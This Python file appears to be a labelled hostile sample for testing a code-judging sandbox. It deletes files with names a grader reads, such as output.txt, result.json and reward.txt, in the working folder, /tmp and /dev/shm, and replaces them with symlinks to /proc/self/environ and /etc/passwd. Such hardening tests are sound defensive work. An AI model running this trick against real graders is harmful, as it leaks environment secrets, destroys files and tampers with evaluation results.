"""Puts symbolic links to system files under every name a judge may open: the judge
would follow them outside."""
# kind: stdin
# class: filesystem
# may: WRONG
# danger: replaces files of these names in the folder it starts in and in /tmp
from contextlib import suppress
from pathlib import Path

NAMES = (
    "stdout",
    "stderr",
    "output",
    "output.txt",
    "result",
    "result.json",
    "answer",
    "reward.txt",
    "core",
    "trace",
)
print(0, flush=True)
for folder in (".", "/tmp", "/dev/shm"):
    for name in NAMES:
        with suppress(OSError):
            Path(folder, name).unlink(missing_ok=True)
            Path(folder, name).symlink_to("/proc/self/environ" if name == "stdout" else "/etc/passwd")
